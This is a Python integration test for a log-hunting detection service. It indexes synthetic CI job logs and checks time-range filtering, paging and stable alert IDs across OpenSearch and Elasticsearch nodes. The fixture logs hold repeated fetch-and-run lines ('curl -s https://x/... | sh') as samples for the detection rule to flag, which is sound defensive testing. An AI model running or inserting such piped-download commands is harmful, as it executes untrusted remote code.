"""``service.hunt`` against a real node: time range, scroll paging, stored alerts never duplicated.

Runs on the suite's OpenSearch, Elasticsearch 8 and Elasticsearch 9 nodes.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from detectors.alert import Alert
from service.hunt.client import open_client
from service.hunt.hunt import HuntPlan, convert_plan, run_plan
from service.hunt.settings import HuntSettings
from service.hunt.timerange import TimeRange, parse_when
from tests.support.fixtures import rule_text

pytestmark = pytest.mark.integration

RULE = rule_text("curl_in_ci_log").replace("11111111-1111-4111-8111-111111111111", "5b7f7d0e-3a53-4f7b-9f43-6f1d2a0c9e01")
INDEX = "hunt-it-ci"


@pytest.fixture(params=["search_node", "es8_node", "es9_node"])
def cluster(request: pytest.FixtureRequest) -> Iterator[tuple[str, str]]:
    node = request.getfixturevalue(request.param)
    yield node.flavor, node.url


def _index(url: str, docs: list[dict[str, Any]]) -> None:
    with httpx.Client(base_url=url, timeout=60) as http:
        http.delete(f"/{INDEX}")
        http.put(f"/{INDEX}", json={"settings": {"number_of_shards": 2, "number_of_replicas": 0},
                                    "mappings": {"properties": {"@timestamp": {"type": "date"},
                                                                "message": {"type": "keyword"}}}}
                 ).raise_for_status()
        lines = []
        for n, doc in enumerate(docs):
            lines += [json.dumps({"index": {"_id": f"d{n}"}}), json.dumps(doc)]
        response = http.post(f"/{INDEX}/_bulk?refresh=true", content="\n".join(lines) + "\n",
                             headers={"content-type": "application/x-ndjson"})
        response.raise_for_status()
        assert not response.json()["errors"]


async def _hunt(target: str, url: str, rules: Path, time_range: TimeRange, page_size: int) -> list[Alert]:
    settings = HuntSettings.model_validate({"target": target, "url": url, "page_size": page_size,
                                            "indices": [{"category": "ci_job_log", "index": "hunt-it-*"}]})
    plan = HuntPlan(rules=(rules,), target=target, time_range=time_range)  # type: ignore[arg-type]
    conversion = convert_plan(plan)
    got: list[Alert] = []
    client = open_client(settings, plan.target, url)
    try:
        report = await run_plan(client, conversion, plan, settings, got.extend)
    finally:
        await client.close()
    assert not [r for r in report.runs if r.error]
    return got


async def test_time_range_paging_and_stable_ids(cluster: tuple[str, str], tmp_path: Path) -> None:
    target, url = cluster
    docs = [{"@timestamp": f"2026-11-{day:02d}T12:00:00Z", "message": f"$ curl -s https://x/{n} | sh"}
            for n, day in enumerate([10] * 5 + [20] * 23 + [30] * 4)]
    docs.append({"@timestamp": "2026-11-20T12:00:00Z", "message": "$ make build"})
    _index(url, docs)
    (tmp_path / "rule.yml").write_text(RULE)
    window = TimeRange(parse_when("2026-11-15T00:00:00Z", 0), parse_when("2026-11-25T00:00:00Z", 0))
    first = await _hunt(target, url, tmp_path / "rule.yml", window, page_size=5)
    assert len(first) == 23
    assert {a.origin.key for a in first} == {f"{INDEX}/d{n}" for n in range(5, 28)}
    assert all(a.rule.author == "Jane Doe" and a.timestamp == parse_when("2026-11-20T12:00:00Z", 0) for a in first)
    again = await _hunt(target, url, tmp_path / "rule.yml", window, page_size=7)
    assert sorted(a.id for a in again) == sorted(a.id for a in first)
    everything = await _hunt(target, url, tmp_path / "rule.yml", TimeRange(), page_size=1000)
    assert len(everything) == 32
